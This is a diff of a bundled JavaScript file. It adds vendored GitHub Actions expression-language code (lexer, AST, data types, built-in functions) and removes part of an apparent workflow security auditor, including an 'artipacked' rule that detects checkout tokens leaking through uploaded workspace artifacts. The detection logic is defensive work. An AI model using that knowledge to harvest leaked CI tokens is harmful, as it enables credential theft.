-        if (u && u.kind === 'local' && u.reusableWorkflow && depth < MAX_COMPOSITE_DEPTH) {
-            const called = local.get(u.path);
-            if (called && called !== file)
-                for (const j of called.jobs)
-                    visit(j, called, [...chain, job.id, job.uses.value], target, depth + 1);
+class Literal extends Expr {
+    constructor(literal, token) {
+        super();
+        this.literal = literal;
+        this.token = token;
+    }
+    accept(v) {
+        return v.visitLiteral(this);
+    }
+}
+class Unary extends Expr {
+    constructor(operator, expr) {
+        super();
+        this.operator = operator;
+        this.expr = expr;
+    }
+    accept(v) {
+        return v.visitUnary(this);
+    }
+}
+class FunctionCall extends Expr {
+    constructor(functionName, args) {
+        super();
+        this.functionName = functionName;
+        this.args = args;
+    }
+    accept(v) {
+        return v.visitFunctionCall(this);
+    }
+}
+class Binary extends Expr {
+    constructor(left, operator, right) {
+        super();
+        this.left = left;
+        this.operator = operator;
+        this.right = right;
+    }
+    accept(v) {
+        return v.visitBinary(this);
+    }
+}
+class Logical extends Expr {
+    constructor(operator, args) {
+        super();
+        this.operator = operator;
+        this.args = args;
+    }
+    accept(v) {
+        return v.visitLogical(this);
+    }
+}
+class Grouping extends Expr {
+    constructor(group) {
+        super();
+        this.group = group;
+    }
+    accept(v) {
+        return v.visitGrouping(this);
+    }
+}
+class ContextAccess extends Expr {
+    constructor(name) {
+        super();
+        this.name = name;
+    }
+    accept(v) {
+        return v.visitContextAccess(this);
+    }
+}
+class IndexAccess extends Expr {
+    constructor(expr, index) {
+        super();
+        this.expr = expr;
+        this.index = index;
+    }
+    accept(v) {
+        return v.visitIndexAccess(this);
+    }
+}
+class ast_Star extends Expr {
+    accept() {
+        throw new Error("Method not implemented.");
+    }
+}
+//# sourceMappingURL=ast.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/expressiondata.js
+var expressiondata_Kind;
+(function (Kind) {
+    Kind[Kind["String"] = 0] = "String";
+    Kind[Kind["Array"] = 1] = "Array";
+    Kind[Kind["Dictionary"] = 2] = "Dictionary";
+    Kind[Kind["Boolean"] = 3] = "Boolean";
+    Kind[Kind["Number"] = 4] = "Number";
+    Kind[Kind["CaseSensitiveDictionary"] = 5] = "CaseSensitiveDictionary";
+    Kind[Kind["Null"] = 6] = "Null";
+})(expressiondata_Kind || (expressiondata_Kind = {}));
+function kindStr(k) {
+    switch (k) {
+        case expressiondata_Kind.Array:
+            return "Array";
+        case expressiondata_Kind.Boolean:
+            return "Boolean";
+        case expressiondata_Kind.Null:
+            return "Null";
+        case expressiondata_Kind.Number:
+            return "Number";
+        case expressiondata_Kind.Dictionary:
+            return "Object";
+        case expressiondata_Kind.String:
+            return "String";
+    }
+    return "unknown";
+}
+//# sourceMappingURL=expressiondata.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/dictionary.js
+
+class Dictionary {
+    constructor(...pairs) {
+        this.keys = [];
+        this.v = [];
+        this.indexMap = {};
+        this.kind = expressiondata_Kind.Dictionary;
+        this.primitive = false;
+        for (const p of pairs) {
+            this.add(p.key, p.value);
         }
-    };
-    for (const j of scope.jobs)
-        visit(j, wf, [], targets.has(j.id), 0);
-    return out;
+    }
+    coerceString() {
+        return kindStr(this.kind);
+    }
+    number() {
+        return NaN;
+    }
+    add(key, value) {
+        if (key.toLowerCase() in this.indexMap) {
+            return;
+        }
+        this.keys.push(key);
+        this.v.push(value);
+        this.indexMap[key.toLowerCase()] = this.v.length - 1;
+    }
+    get(key) {
+        const index = this.indexMap[key.toLowerCase()];
+        if (index === undefined) {
+            return undefined;
+        }
+        return this.v[index];
+    }
+    values() {
+        return this.v;
+    }
+    pairs() {
+        const result = [];
+        for (const key of this.keys) {
+            result.push({ key, value: this.v[this.indexMap[key.toLowerCase()]] });
+        }
+        return result;
+    }
 }
-function stepSites(site, local) {
-    const out = [];
-    const visit = (steps, file, chain, top, depth) => {
-        for (const step of steps) {
-            const t = top ?? step;
-            out.push({ job: site.job, step, wf: file, chain, target: site.target, top: { job: site.job, step: t } });
-            const u = step.uses?.parsed;
-            if (u && u.kind === 'local' && !u.reusableWorkflow && depth < MAX_COMPOSITE_DEPTH) {
-                const action = localAction(local, u.path);
-                if (action && action.runs?.using === 'composite' && action !== file) {
-                    visit(action.jobs[0]?.steps ?? [], action, [...chain, ...(chain.length ? [] : [site.job.id]), step.uses.value], t, depth + 1);
+function dictionary_isDictionary(x) {
+    return x.kind === Kind.Dictionary;
+}
+//# sourceMappingURL=dictionary.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/array.js
+
+class array_Array {
+    constructor(...data) {
+        this.v = [];
+        this.kind = expressiondata_Kind.Array;
+        this.primitive = false;
+        for (const d of data) {
+            this.add(d);
+        }
+    }
+    coerceString() {
+        return kindStr(this.kind);
+    }
+    number() {
+        return NaN;
+    }
+    add(value) {
+        this.v.push(value);
+    }
+    get(index) {
+        return this.v[index];
+    }
+    values() {
+        return this.v;
+    }
+}
+//# sourceMappingURL=array.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/boolean.js
+
+class BooleanData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.Boolean;
+        this.primitive = true;
+    }
+    coerceString() {
+        if (this.value) {
+            return "true";
+        }
+        return "false";
+    }
+    number() {
+        if (this.value) {
+            return 1;
+        }
+        return 0;
+    }
+}
+//# sourceMappingURL=boolean.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/null.js
+
+class Null {
+    constructor() {
+        this.kind = expressiondata_Kind.Null;
+        this.primitive = true;
+    }
+    coerceString() {
+        return "";
+    }
+    number() {
+        return 0;
+    }
+}
+//# sourceMappingURL=null.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/number.js
+
+class NumberData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.Number;
+        this.primitive = true;
+    }
+    coerceString() {
+        if (this.value === 0) {
+            return "0";
+        }
+        // Workaround to limit the precision to at most 15 digits. Format the number to a string, then parse
+        // it back to a number to remove trailing zeroes to prevent numbers to be converted to 1.200000000...
+        return (+this.value.toFixed(15)).toString();
+    }
+    number() {
+        return this.value;
+    }
+}
+//# sourceMappingURL=number.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/string.js
+
+class StringData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.String;
+        this.primitive = true;
+    }
+    coerceString() {
+        return this.value;
+    }
+    number() {
+        return Number(this.value);
+    }
+}
+//# sourceMappingURL=string.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/replacer.js
+
+
+
+
+
+
+/**
+ * Replacer can be passed to JSON.stringify to convert an ExpressionData object into plain JSON
+ *
+ * See: https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/JSON/stringify#replacer
+ */
+function replacer(_key, value) {
+    if (value instanceof Null) {
+        return null;
+    }
+    if (value instanceof BooleanData) {
+        return value.value;
+    }
+    if (value instanceof NumberData) {
+        return value.number();
+    }
+    if (value instanceof StringData) {
+        return value.coerceString();
+    }
+    if (value instanceof array_Array) {
+        return value.values();
+    }
+    if (value instanceof Dictionary) {
+        const pairs = value.pairs();
+        const r = {};
+        for (const p of pairs) {
+            r[p.key] = p.value;
+        }
+        return r;
+    }
+    return value;
+}
+//# sourceMappingURL=replacer.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/reviver.js
+
+
+
+
+
+
+/**
+ * Reviver can be passed to `JSON.parse` to convert plain JSON into an `ExpressionData` object.
+ *
+ * See: https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/JSON/parse#reviver
+ */
+function reviver(_key, val) {
+    if (val === null) {
+        return new Null();
+    }
+    if (typeof val === "string") {
+        return new StringData(val);
+    }
+    if (typeof val === "number") {
+        return new NumberData(val);
+    }
+    if (typeof val === "boolean") {
+        return new BooleanData(val);
+    }
+    if (Array.isArray(val)) {
+        return new array_Array(...val);
+    }
+    if (typeof val === "object") {
+        return new Dictionary(...Object.keys(val).map(k => ({
+            key: k,
+            value: val[k]
+        })));
+    }
+    // Pass through value
+    return val;
+}
+//# sourceMappingURL=reviver.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/index.js
+
+
+
+
+
+
+
+
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/filtered_array.js
+
+class filtered_array_FilteredArray extends array_Array {
+}
+//# sourceMappingURL=filtered_array.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/lexer.js
+
+
+var lexer_TokenType;
+(function (TokenType) {
+    TokenType[TokenType["UNKNOWN"] = 0] = "UNKNOWN";
+    TokenType[TokenType["LEFT_PAREN"] = 1] = "LEFT_PAREN";
+    TokenType[TokenType["RIGHT_PAREN"] = 2] = "RIGHT_PAREN";
+    TokenType[TokenType["LEFT_BRACKET"] = 3] = "LEFT_BRACKET";
+    TokenType[TokenType["RIGHT_BRACKET"] = 4] = "RIGHT_BRACKET";
+    TokenType[TokenType["COMMA"] = 5] = "COMMA";
+    TokenType[TokenType["DOT"] = 6] = "DOT";
+    TokenType[TokenType["BANG"] = 7] = "BANG";
+    TokenType[TokenType["BANG_EQUAL"] = 8] = "BANG_EQUAL";
+    TokenType[TokenType["EQUAL_EQUAL"] = 9] = "EQUAL_EQUAL";
+    TokenType[TokenType["GREATER"] = 10] = "GREATER";
+    TokenType[TokenType["GREATER_EQUAL"] = 11] = "GREATER_EQUAL";
+    TokenType[TokenType["LESS"] = 12] = "LESS";
+    TokenType[TokenType["LESS_EQUAL"] = 13] = "LESS_EQUAL";
+    TokenType[TokenType["AND"] = 14] = "AND";
+    TokenType[TokenType["OR"] = 15] = "OR";
+    TokenType[TokenType["STAR"] = 16] = "STAR";
+    TokenType[TokenType["NUMBER"] = 17] = "NUMBER";
+    TokenType[TokenType["STRING"] = 18] = "STRING";
+    TokenType[TokenType["IDENTIFIER"] = 19] = "IDENTIFIER";
+    TokenType[TokenType["TRUE"] = 20] = "TRUE";
+    TokenType[TokenType["FALSE"] = 21] = "FALSE";
+    TokenType[TokenType["NULL"] = 22] = "NULL";
+    TokenType[TokenType["EOF"] = 23] = "EOF";
+})(lexer_TokenType || (lexer_TokenType = {}));
+function tokenString(tok) {
+    switch (tok.type) {
+        case lexer_TokenType.EOF:
+            return "EOF";
+        case lexer_TokenType.NUMBER:
+            return tok.lexeme;
+        case lexer_TokenType.STRING:
+            // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+            return tok.value.toString();
+        default:
+            return tok.lexeme;
+    }
+}
+class lexer_Lexer {
+    constructor(input) {
+        this.input = input;
+        this.start = 0;
+        this.offset = 0;
+        this.line = 0;
+        this.lastLineOffset = 0;
+        this.tokens = [];
+    }
+    lex() {
+        if (this.input.length > MAX_EXPRESSION_LENGTH) {
+            throw new Error("ErrorExceededMaxLength");
+        }
+        while (!this.atEnd()) {
+            this.start = this.offset;
+            const c = this.next();
+            switch (c) {
+                case "(":
+                    this.addToken(lexer_TokenType.LEFT_PAREN);
+                    break;
+                case ")":
+                    this.addToken(lexer_TokenType.RIGHT_PAREN);
+                    break;
+                case "[":
+                    this.addToken(lexer_TokenType.LEFT_BRACKET);
+                    break;
+                case "]":
+                    this.addToken(lexer_TokenType.RIGHT_BRACKET);
+                    break;
+                case ",":
+                    this.addToken(lexer_TokenType.COMMA);
+                    break;
+                case ".":
+                    if (this.previous() != lexer_TokenType.IDENTIFIER &&
+                        this.previous() != lexer_TokenType.RIGHT_BRACKET &&
+                        this.previous() != lexer_TokenType.RIGHT_PAREN &&
+                        this.previous() != lexer_TokenType.STAR) {
+                        this.consumeNumber();
+                    }
+                    else {
+                        this.addToken(lexer_TokenType.DOT);
+                    }
+                    break;
+                case "-":
+                case "+":
+                    this.consumeNumber();
+                    break;
+                case "!":
+                    this.addToken(this.match("=") ? lexer_TokenType.BANG_EQUAL : lexer_TokenType.BANG);
+                    break;
+                case "=":
+                    if (!this.match("=")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.EQUAL_EQUAL);
+                    break;
+                case "<":
+                    this.addToken(this.match("=") ? lexer_TokenType.LESS_EQUAL : lexer_TokenType.LESS);
+                    break;
+                case ">":
+                    this.addToken(this.match("=") ? lexer_TokenType.GREATER_EQUAL : lexer_TokenType.GREATER);
+                    break;
+                case "&":
+                    if (!this.match("&")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.AND);
+                    break;
+                case "|":
+                    if (!this.match("|")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.OR);
+                    break;
+                case "*":
+                    this.addToken(lexer_TokenType.STAR);
+                    break;
+                // Ignore whitespace.
+                case " ":
+                case "\r":
+                case "\t":
+                    break;
+                case "\n":
+                    ++this.line;
+                    this.lastLineOffset = this.offset;
+                    break;
+                case "'":
+                    this.consumeString();
+                    break;
+                default:
+                    switch (true) {
+                        case isDigit(c):
+                            this.consumeNumber();
+                            break;
+                        default:
+                            this.consumeIdentifier();
+                            break;
+                    }
+            }
+        }
+        this.tokens.push({
+            type: lexer_TokenType.EOF,
+            lexeme: "",
+            range: this.range()
+        });
+        return {
+            tokens: this.tokens
+        };
+    }
+    pos() {
+        return {
+            line: this.line,
+            column: this.start - this.lastLineOffset
+        };
+    }
+    endPos() {
+        return {
+            line: this.line,
+            column: this.offset - this.lastLineOffset
+        };
+    }
+    range() {
+        return {
+            start: this.pos(),
+            end: this.endPos()
+        };
+    }
+    atEnd() {
+        return this.offset >= this.input.length;
+    }
+    peek() {
+        if (this.atEnd()) {
+            return "\0";
+        }
+        return this.input[this.offset];
+    }
+    peekNext() {
+        if (this.offset + 1 >= this.input.length) {
+            return "\0";
+        }
+        return this.input[this.offset + 1];
+    }
+    previous() {
+        const l = this.tokens.length;
+        if (l == 0) {
+            return lexer_TokenType.EOF;
+        }
+        return this.tokens[l - 1].type;
+    }
+    next() {
+        return this.input[this.offset++];
+    }
+    match(expected) {
+        if (this.atEnd()) {
+            return false;
+        }
+        if (this.input[this.offset] !== expected) {
+            return false;
+        }
+        this.offset++;
+        return true;
+    }
+    addToken(type, value) {
+        this.tokens.push({
+            type,
+            lexeme: this.input.substring(this.start, this.offset),
+            range: this.range(),
+            value
+        });
+    }
+    consumeNumber() {
+        while (!this.atEnd() && (!isBoundary(this.peek()) || this.peek() == ".")) {
+            this.next();
+        }
+        const lexeme = this.input.substring(this.start, this.offset);
+        const value = new StringData(lexeme).number();
+        if (isNaN(value)) {
+            throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        this.addToken(lexer_TokenType.NUMBER, value);
+    }
+    consumeString() {
+        while ((this.peek() !== "'" || this.peekNext() === "'") && !this.atEnd()) {
+            if (this.peek() === "\n")
+                this.line++;
+            if (this.peek() === "'" && this.peekNext() === "'") {
+                // Escaped "'", consume
+                this.next();
+            }
+            this.next();
+        }
+        if (this.atEnd()) {
+            // Unterminated string
+            throw new Error(`Unexpected symbol: '${this.input.substring(this.start)}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        // Closing '
+        this.next();
+        // Trim the surrounding quotes.
+        let value = this.input.substring(this.start + 1, this.offset - 1);
+        value = value.replace("''", "'");
+        this.addToken(lexer_TokenType.STRING, value);
+    }
+    consumeIdentifier() {
+        while (!this.atEnd() && !isBoundary(this.peek())) {
+            this.next();
+        }
+        let tokenType = lexer_TokenType.IDENTIFIER;
+        let tokenValue = undefined;
+        const lexeme = this.input.substring(this.start, this.offset);
+        if (this.previous() != lexer_TokenType.DOT) {
+            switch (lexeme) {
+                case "true":
+                    tokenType = lexer_TokenType.TRUE;
+                    break;
+                case "false":
+                    tokenType = lexer_TokenType.FALSE;
+                    break;
+                case "null":
+                    tokenType = lexer_TokenType.NULL;
+                    break;
+                case "NaN":
+                    tokenType = lexer_TokenType.NUMBER;
+                    tokenValue = NaN;
+                    break;
+                case "Infinity":
+                    tokenType = lexer_TokenType.NUMBER;
+                    tokenValue = Infinity;
+                    break;
+            }
+        }
+        if (!isLegalIdentifier(lexeme)) {
+            throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        this.addToken(tokenType, tokenValue);
+    }
+}
+function isDigit(c) {
+    return c >= "0" && c <= "9";
+}
+function isBoundary(c) {
+    switch (c) {
+        case "(":
+        case "[":
+        case ")":
+        case "]":
+        case ",":
+        case ".":
+        case "!":
+        case ">":
+        case "<":
+        case "=":
+        case "&":
+        case "|":
+            return true;
+    }
+    return /\s/.test(c);
+}
+function isLegalIdentifier(str) {
+    if (str == "") {
+        return false;
+    }
+    const first = str[0];
+    if ((first >= "a" && first <= "z") || (first >= "A" && first <= "Z") || first == "_") {
+        for (const c of str.substring(1).split("")) {
+            if ((c >= "a" && c <= "z") || (c >= "A" && c <= "Z") || (c >= "0" && c <= "9") || c == "_" || c == "-") {
+                // OK
+            }
+            else {
+                return false;
+            }
+        }
+        return true;
+    }
+    return false;
+}
+//# sourceMappingURL=lexer.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/errors.js
+
+const MAX_PARSER_DEPTH = 50;
+const MAX_EXPRESSION_LENGTH = 21000;
+var ErrorType;
+(function (ErrorType) {
+    ErrorType[ErrorType["ErrorUnexpectedSymbol"] = 0] = "ErrorUnexpectedSymbol";
+    ErrorType[ErrorType["ErrorUnrecognizedNamedValue"] = 1] = "ErrorUnrecognizedNamedValue";
+    ErrorType[ErrorType["ErrorUnexpectedEndOfExpression"] = 2] = "ErrorUnexpectedEndOfExpression";
+    ErrorType[ErrorType["ErrorExceededMaxDepth"] = 3] = "ErrorExceededMaxDepth";
+    ErrorType[ErrorType["ErrorExceededMaxLength"] = 4] = "ErrorExceededMaxLength";
+    ErrorType[ErrorType["ErrorTooFewParameters"] = 5] = "ErrorTooFewParameters";
+    ErrorType[ErrorType["ErrorTooManyParameters"] = 6] = "ErrorTooManyParameters";
+    ErrorType[ErrorType["ErrorEvenParameters"] = 7] = "ErrorEvenParameters";
+    ErrorType[ErrorType["ErrorUnrecognizedContext"] = 8] = "ErrorUnrecognizedContext";
+    ErrorType[ErrorType["ErrorUnrecognizedFunction"] = 9] = "ErrorUnrecognizedFunction";
+})(ErrorType || (ErrorType = {}));
+class ExpressionError extends Error {
+    constructor(typ, tok) {
+        super(`${errorDescription(typ)}: '${tokenString(tok)}'`);
+        this.typ = typ;
+        this.tok = tok;
+        this.pos = this.tok.range.start;
+    }
+}
+function errorDescription(typ) {
+    switch (typ) {
+        case ErrorType.ErrorUnexpectedEndOfExpression:
+            return "Unexpected end of expression";
+        case ErrorType.ErrorUnexpectedSymbol:
+            return "Unexpected symbol";
+        case ErrorType.ErrorUnrecognizedNamedValue:
+            return "Unrecognized named-value";
+        case ErrorType.ErrorExceededMaxDepth:
+            return `Exceeded max expression depth ${MAX_PARSER_DEPTH}`;
+        case ErrorType.ErrorExceededMaxLength:
+            return `Exceeded max expression length ${MAX_EXPRESSION_LENGTH}`;
+        case ErrorType.ErrorTooFewParameters:
+            return "Too few parameters supplied";
+        case ErrorType.ErrorTooManyParameters:
+            return "Too many parameters supplied";
+        case ErrorType.ErrorEvenParameters:
+            return "Even number of parameters supplied, requires an odd number of parameters";
+        case ErrorType.ErrorUnrecognizedContext:
+            return "Unrecognized named-value";
+        case ErrorType.ErrorUnrecognizedFunction:
+            return "Unrecognized function";
+        default: // Should never reach here.
+            return "Unknown error";
+    }
+}
+class ExpressionEvaluationError extends Error {
+}
+//# sourceMappingURL=errors.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/case.js
+
+const caseFunc = {
+    name: "case",
+    description: "`case( pred1, val1, pred2, val2, ..., default )`\n\nEvaluates predicates in order and returns the value corresponding to the first predicate that evaluates to `true`. If no predicate matches, it returns the last argument as the default value.",
+    minArgs: 3,
+    maxArgs: Number.MAX_SAFE_INTEGER,
+    call: (...args) => {
+        // Evaluate predicate-result pairs
+        for (let i = 0; i < args.length - 1; i += 2) {
+            const predicate = args[i];
+            // Predicate must be a boolean
+            if (predicate.kind !== expressiondata_Kind.Boolean) {
+                throw new Error("case predicate must evaluate to a boolean value");
+            }
+            // If predicate is true, return the corresponding result
+            if (predicate.value) {
+                return args[i + 1];
+            }
+        }
+        // No predicate matched, return default (last argument)
+        return args[args.length - 1];
+    }
+};
+//# sourceMappingURL=case.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/result.js
+
+function result_falsy(d) {
+    switch (d.kind) {
+        case expressiondata_Kind.Null:
+            return true;
+        case expressiondata_Kind.Boolean:
+            return !d.value;
+        case expressiondata_Kind.Number: {
+            const dv = d.value;
+            return dv === 0 || isNaN(dv);
+        }
+        case expressiondata_Kind.String:
+            return d.value.length === 0;
+    }
+    return false;
+}
+function result_truthy(d) {
+    return !result_falsy(d);
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except objects are not coerced to primitives.
+function coerceTypes(li, ri) {
+    let lv = li;
+    let rv = ri;
+    // Do nothing, same kind
+    if (li.kind === ri.kind) {
+        return [lv, rv];
+    }
+    switch (li.kind) {
+        // Number, String
+        case expressiondata_Kind.Number:
+            if (ri.kind === expressiondata_Kind.String) {
+                rv = new NumberData(ri.number());
+                return [lv, rv];
+            }
+            break;
+        // String, Number
+        case expressiondata_Kind.String:
+            if (ri.kind === expressiondata_Kind.Number) {
+                lv = new NumberData(li.number());
+                return [lv, rv];
+            }
+            break;
+        // Boolean|Null, Any
+        case expressiondata_Kind.Null:
+        case expressiondata_Kind.Boolean:
+            lv = new NumberData(li.number());
+            return coerceTypes(lv, rv);
+    }
+    // Any, Boolean|Null
+    switch (ri.kind) {
+        case expressiondata_Kind.Null:
+        case expressiondata_Kind.Boolean:
+            rv = new NumberData(ri.number());
+            return coerceTypes(lv, rv);
+    }
+    return [lv, rv];
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_equals(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Null, Null
+        case expressiondata_Kind.Null:
+            return true;
+        // Number, Number
+        case expressiondata_Kind.Number: {
+            const ld = lv.value;
+            const rd = rv.value;
+            if (isNaN(ld) || isNaN(rd)) {
+                return false;
+            }
+            return ld == rd;
+        }
+        // String, String
+        case expressiondata_Kind.String: {
+            const ls = lv.value;
+            const rs = rv.value;
+            return toUpperSpecial(ls) === toUpperSpecial(rs);
+        }
+        // Boolean, Boolean
+        case expressiondata_Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return lb == rb;
+        }
+        // Object, Object
+        case expressiondata_Kind.Dictionary:
+        case expressiondata_Kind.Array:
+            // Check reference equality
+            return lv === rv;
+    }
+    return false;
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_greaterThan(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Number, Number
+        case expressiondata_Kind.Number: {
+            const lf = lv.value;
+            const rf = rv.value;
+            if (isNaN(lf) || isNaN(rf)) {
+                return false;
+            }
+            return lf > rf;
+        }
+        // String, String
+        case expressiondata_Kind.String: {
+            let ls = lv.value;
+            let rs = rv.value;
+            ls = toUpperSpecial(ls);
+            rs = toUpperSpecial(rs);
+            return ls > rs;
+        }
+        // Boolean, Boolean
+        case expressiondata_Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return lb && !rb;
+        }
+    }
+    return false;
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_lessThan(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Number, Number
+        case expressiondata_Kind.Number: {
+            const lf = lv.value;
+            const rf = rv.value;
+            if (isNaN(lf) || isNaN(rf)) {
+                return false;
+            }
+            return lf < rf;
+        }
+        // String, String
+        case expressiondata_Kind.String: {
+            let ls = lv.value;
+            let rs = rv.value;
+            ls = toUpperSpecial(ls);
+            rs = toUpperSpecial(rs);
+            return ls < rs;
+        }
+        // Boolean, Boolean
+        case expressiondata_Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return !lb && rb;
+        }
+    }
+    return false;
+}
+// Do not toUpper the small-dotless-ı
+function toUpperSpecial(s) {
+    const sb = [];
+    let i = 0;
+    const len = s.length;
+    let found = s.indexOf("ı");
+    while (i < len) {
+        if (i < found) {
+            sb.push(s.substring(i, found).toUpperCase()); // Append upper segment
+            i = found;
+        }
+        else if (i == found) {
+            sb.push(s.substring(i, i + 1));
+            i += 1;
+            found = s.indexOf("ı", i);
+        }
+        else {
+            sb.push(s.substring(i).toUpperCase()); // Append upper remaining
+            break;
+        }
+    }
+    return sb.join("");
+}
+//# sourceMappingURL=result.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/contains.js
+
+
+const contains = {
+    name: "contains",
+    description: "`contains( search, item )`\n\nReturns `true` if `search` contains `item`. If `search` is an array, this function returns `true` if the `item` is an element in the array. If `search` is a string, this function returns `true` if the `item` is a substring of `search`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        const right = args[1];
+        if (left.primitive) {
+            const ls = left.coerceString();
+            if (right.primitive) {
+                const rs = right.coerceString();
+                return new BooleanData(ls.toLowerCase().includes(rs.toLowerCase()));
+            }
+        }
+        else if (left.kind === expressiondata_Kind.Array) {
+            const la = left;
+            if (la.values().length === 0) {
+                return new BooleanData(false);
+            }
+            for (const v of la.values()) {
+                if (result_equals(right, v)) {
+                    return new BooleanData(true);
                 }
             }
         }
-    };
-    visit(site.job.steps, site.wf, site.chain, undefined, 0);
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/audits/artipacked.ts
-/**
- * artipacked: `actions/checkout` leaves the job's token in `.git/config` unless told not to.
- * Every later step of the job can read it, and an artifact of the workspace carries it out
- * (Unit 42, "ArtiPACKED", 2024).
- */
+        return new BooleanData(false);
+    }
+};
+//# sourceMappingURL=contains.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/endswith.js
 
 
+const endswith = {
+    name: "endsWith",
+    description: "`endsWith( searchString, searchValue )`\n\nReturns `true` if `searchString` ends with `searchValue`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        if (!left.primitive) {
+            return new BooleanData(false);
+        }
+        const right = args[1];
+        if (!right.primitive) {
+            return new BooleanData(false);
+        }
+        const ls = toUpperSpecial(left.coerceString());
+        const rs = toUpperSpecial(right.coerceString());
+        return new BooleanData(ls.endsWith(rs));
+    }
+};
+//# sourceMappingURL=endswith.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/format.js
 
-
-/** Does this upload carry the workspace root (and so `.git/`)? */
-function uploadsWorkspace(s) {
-    const paths = (input(s.step, 'path') ?? '').split('\n').map((p) => p.trim()).filter(Boolean);
-    const root = paths.some((p) => /^(\.\/?|\*+|\$\{\{\s*github\.workspace\s*\}\}\/?|\.git(\/.*)?|\$GITHUB_WORKSPACE\/?)$/.test(p));
-    if (!root)
-        return false;
-    // upload-artifact v4.4+ leaves hidden files (.git) out unless include-hidden-files: true
-    const v = versionOf(s.step, s.wf);
-    return isTrue(input(s.step, 'include-hidden-files')) || v === undefined || v < 4;
-}
-const rule = {
-    id: 'artipacked',
-    title: 'checkout leaves the token in the workspace',
-    severity: 'warning',
-    check(ctx) {
-        const out = [];
-        for (const site of jobSites(ctx.workflow, ctx.scope, ctx.local)) {
-            const steps = stepSites(site, ctx.local);
-            const packs = steps.filter((s) => isAction(s.step, 'actions/upload-artifact') && uploadsWorkspace(s));
-            for (const s of steps) {
-                if (!isAction(s.step, 'actions/checkout'))
+const format = {
+    name: "format",
+    description: "`format( string, replaceValue0, replaceValue1, ..., replaceValueN)`\n\nReplaces values in the `string`, with the variable `replaceValueN`. Variables in the `string` are specified using the `{N}` syntax, where `N` is an integer. You must specify at least one `replaceValue` and `string`. There is no maximum for the number of variables (`replaceValueN`) you can use. Escape curly braces using double braces.",
+    minArgs: 1,
+    maxArgs: 255 /*MAX_ARGUMENTS*/,
+    call: (...args) => {
+        const fs = args[0].coerceString();
+        const result = [];
+        let index = 0;
+        while (index < fs.length) {
+            const lbrace = fs.indexOf("{", index);
+            const rbrace = fs.indexOf("}", index);
+            // Left brace
+            if (lbrace >= 0 && (rbrace < 0 || rbrace > lbrace)) {
+                // Escaped left brace
+                if (safeCharAt(fs, lbrace + 1) === "{") {
+                    result.push(fs.substr(index, lbrace - index + 1));
+                    index = lbrace + 2;
                     continue;
-                const pc = input(s.step, 'persist-credentials');
